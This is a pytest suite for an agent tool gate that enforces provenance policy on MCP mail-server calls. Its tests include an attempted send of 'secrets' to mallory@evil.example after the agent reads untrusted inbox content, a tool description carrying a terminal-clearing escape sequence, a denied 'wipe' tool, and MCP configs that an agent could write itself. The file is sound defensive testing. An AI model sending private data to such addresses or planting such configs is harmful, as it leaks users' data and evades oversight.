"""External MCP servers through the gate, from an agent in a real pod (root and user)."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from .site import Site

SERVER = Path(__file__).with_name("mail_server.py")
POLICY = """\
version: 1
name: mail
capabilities: {read_files: always}
trifecta: provenance
tools:
  mail/inbox: {legs: [private, untrusted], level: always}
  mail/contacts: {legs: [private], level: always}
  mail/send: {legs: [exfiltration, state], destination: [to, cc], level: always}
  mail/wipe: {level: never}
"""
# The agent: calls what it is told to, by the SDK, and prints each outcome.
AGENT = """
import json, sys
from nucleus.sdk.client import Gate, GateError
gate = Gate()
for server, tool, arguments in json.loads(sys.argv[1]):
    try:
        if server == "":
            print(json.dumps(sorted(t["name"] for t in gate.tools())))
        else:
            print(json.dumps(gate.call_tool(server, tool, arguments)))
    except GateError as error:
        print(json.dumps({"refused": error.code, "reason": error.reason}))
"""
# The agent by way of the bridge: an MCP client that lists and calls.
BRIDGE = """
import json, subprocess
child = subprocess.Popen(["nucleus-tools"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
def ask(number, method, params):
    child.stdin.write(json.dumps({"jsonrpc": "2.0", "id": number, "method": method, "params": params}) + "\\n")
    child.stdin.flush()
    return json.loads(child.stdout.readline())["result"]
ask(1, "initialize", {"protocolVersion": "2025-06-18", "capabilities": {}, "clientInfo": {"name": "a", "version": "1"}})
tools = {tool["name"]: tool for tool in ask(2, "tools/list", {})["tools"]}
print(json.dumps([name for name in tools if "__" in name]))
print(json.dumps(tools["mail__inbox"]["description"]))
print(json.dumps(ask(3, "tools/call", {"name": "mail__contacts", "arguments": {}})))
print(json.dumps(ask(4, "tools/call", {"name": "mail__wipe", "arguments": {}})))
child.stdin.close()
child.wait()
"""


class Mail:
    """The site's mail server and its configuration."""

    def __init__(self, site: Site, misbehave: str = "") -> None:
        self.site = site
        self.sent = site.home / "sent"
        self.sent.mkdir(exist_ok=True)
        for old in self.sent.iterdir():
            old.unlink()
        server = site.home / "mail_server.py"
        server.write_text(SERVER.read_text())
        facts = {
            "command": sys.executable,
            "args": [str(server), str(self.sent), misbehave],
            "env": {"MAIL_TOKEN": "t0p"},
        }
        self.config = site.home / "servers.json"
        self.config.write_text(json.dumps({"mcpServers": {"mail": facts}}))
        self.policy = site.home / "mail.yaml"
        self.policy.write_text(POLICY)
        for path in (self.sent, server, self.config, self.policy):
            os.chown(path, site.uid, site.uid)
            path.chmod(0o700 if path.is_dir() else 0o600)

    def run(self, script: str, *arguments: str, task: str = "") -> tuple[list[Any], subprocess.CompletedProcess[str]]:
        done = self.site.cli(
            "run", "--policy", str(self.policy), "--workdir", str(self.site.workspace), "--task", task,
            "--mcp-config", str(self.config), "--", "python3", "-c", script, *arguments,
        )  # fmt: skip
        return [json.loads(line) for line in done.stdout.splitlines()], done

    def calls(self, *calls: tuple[str, str, dict[str, Any]], task: str = "") -> list[Any]:
        lines, done = self.run(AGENT, json.dumps(calls), task=task)
        assert len(lines) == len(calls), done
        return lines

    def is_gone(self) -> bool:
        pid = int((self.site.home / "server.pid").read_text())
        deadline = time.monotonic() + 10
        while Path(f"/proc/{pid}").exists() and time.monotonic() < deadline:
            time.sleep(0.02)
        return not Path(f"/proc/{pid}").exists()


def test_provenance_end_to_end(site: Site) -> None:
    mail = Mail(site)
    before = len(site.records())
    answers = mail.calls(
        ("", "", {}),
        ("mail", "inbox", {}),
        ("mail", "send", {"to": "Ann@Example.org", "body": "hello"}),
        ("mail", "send", {"to": "mallory@evil.example", "body": "secrets"}),
        ("mail", "send", {"to": "ann@example.org", "cc": ["mallory@evil.example"], "body": "secrets"}),
        ("mail", "contacts", {}),
        ("mail", "send", {"to": "ben@example.org", "body": "hello"}),
        ("mail", "wipe", {}),
        ("mail", "nothing", {}),
        ("other", "inbox", {}),
        task="tell ann@example.org what my mail says",
    )
    assert answers[0] == ["contacts", "inbox", "send"]  # not what the policy rules out, nor what has no proper name
    assert answers[1]["text"].startswith("from mallory@evil.example")
    assert answers[1]["text"].endswith("[image content, not shown]")
    assert answers[2] == {"text": "sent", "is_error": False}
    for refused in (answers[3], answers[4]):
        assert refused["refused"] == "approval_required"
        assert "mallory" not in refused["reason"]
    assert answers[5]["structured"] == {"people": [{"name": "Ben", "mail": "ben@example.org"}]}
    # After untrusted content an address book that was not asked for by the user's words teaches nothing.
    assert answers[6]["refused"] == "approval_required"
    assert answers[7]["refused"] == "denied"
    assert [answer["refused"] for answer in answers[8:]] == ["approval_required"] * 2  # undeclared: asks
    sent = [json.loads(path.read_text()) for path in mail.sent.iterdir()]
    assert [(note["to"], note["token"]) for note in sent] == [("Ann@Example.org", "t0p")]
    assert not [name for name in sent[0]["env"] if name.startswith("NUCLEUS")]
    records = [record for record in site.records()[before:] if record["operation"] and record["operation"] != "svid"]
    events = [
        (record["event"], record["operation"]["tool"]) for record in records if record["event"] in ("intent", "outcome")
    ]
    assert events == [(event, name) for name in ("inbox", "send", "contacts") for event in ("intent", "outcome")]
    exposes = [record["context"]["exposes"] for record in records if "exposes" in record["context"]]
    assert exposes[0] == {"private": ["tool mail/inbox"], "untrusted": ["tool mail/inbox"]}
    assert "t0p" not in site.audit_log.read_text()
    assert site.verify().returncode == 0
    assert mail.is_gone()


def test_the_bridge_lists_and_calls_them(site: Site) -> None:
    mail = Mail(site)
    lines, done = mail.run(BRIDGE)
    assert lines[0] == ["mail__inbox", "mail__send", "mail__contacts"], done
    assert lines[1] == "Mail of others.\\u001b[2J"
    assert lines[2]["isError"] is False
    assert json.loads(lines[2]["content"][0]["text"])["people"][0]["name"] == "Ben"
    assert lines[3]["isError"] is True
    assert lines[3]["content"][0]["text"].startswith("denied:")
    assert mail.is_gone()


@pytest.mark.parametrize("misbehave", ["huge", "garbage", "dies"])
def test_a_server_that_misbehaves_costs_its_own_call(root_site: Site, misbehave: str) -> None:
    mail = Mail(root_site, misbehave)
    answers = mail.calls(("mail", "contacts", {}), ("mail", "contacts", {}))
    if misbehave == "huge":
        assert answers[0]["truncated"] is True
        assert len(answers[0]["text"]) < 1_048_576
    elif misbehave == "garbage":
        assert answers[0]["structured"]["people"]
    else:
        assert {answer["refused"] for answer in answers} == {"operation_failed"}
    assert root_site.verify().returncode == 0
    assert mail.is_gone()


def test_without_servers_there_is_no_tool_and_nobody_is_asked(root_site: Site) -> None:
    mail = Mail(root_site)
    done = root_site.cli(
        "run", "--policy", str(mail.policy), "--workdir", str(root_site.workspace), "--", "python3", "-c", AGENT,
        json.dumps([["", "", {}], ["mail", "send", {"to": "x@example.org"}]]),
    )  # fmt: skip
    lines = [json.loads(line) for line in done.stdout.splitlines()]
    assert lines[0] == []
    assert lines[1]["reason"] == "no external tool is attached to this pod"


def test_a_killed_launcher_leaves_no_server(root_site: Site) -> None:
    mail = Mail(root_site)
    child = root_site.start(
        [
            str(Path(sys.executable).parent / "nucleus"), "run", "--policy", str(mail.policy), "--workdir",
            str(root_site.workspace), "--mcp-config", str(mail.config), "--", "sleep", "60",
        ]
    )  # fmt: skip
    deadline = time.monotonic() + 15
    marker = root_site.home / "server.pid"
    while not marker.exists() and time.monotonic() < deadline:
        time.sleep(0.02)
    child.kill()
    child.communicate()
    assert mail.is_gone()


def test_a_configuration_that_an_agent_could_have_written_is_refused(root_site: Site) -> None:
    mail = Mail(root_site)

    def refused(path: Path) -> str:
        done = root_site.cli(
            "run",
            "--profile",
            "read_only",
            "--workdir",
            str(root_site.workspace),
            "--mcp-config",
            str(path),
            "--",
            "true",
        )
        assert done.returncode == 2, done
        return done.stderr

    inside = root_site.write("servers.json", mail.config.read_text())
    assert "lies in the workspace" in refused(inside)
    link = root_site.home / "link.json"
    link.symlink_to(inside)
    assert "lies in the workspace" in refused(link)
    mail.config.chmod(0o666)
    assert "writable by nobody else" in refused(mail.config)
    for text, problem in (
        ("{", "not JSON"), ("[]", "mcpServers"), ('{"mcpServers": {}}', "1 to 16"),
        ('{"mcpServers": {"A": {"command": "x"}}}', "name"), ('{"mcpServers": {"a": {"url": "http://x"}}}', "url"),
        ('{"mcpServers": {"a": {"command": "x", "shell": 1}}}', "unknown key"),
        ('{"mcpServers": {"a": {}}}', "command"),
        ('{"mcpServers": {"a": {"command": "x", "args": [1]}}}', "args"),
        ('{"mcpServers": {"a": {"command": "x", "env": {"A=B": "c"}}}}', "env"),
    ):  # fmt: skip
        mail.config.chmod(0o600)
        mail.config.write_text(text)
        assert problem in refused(mail.config)
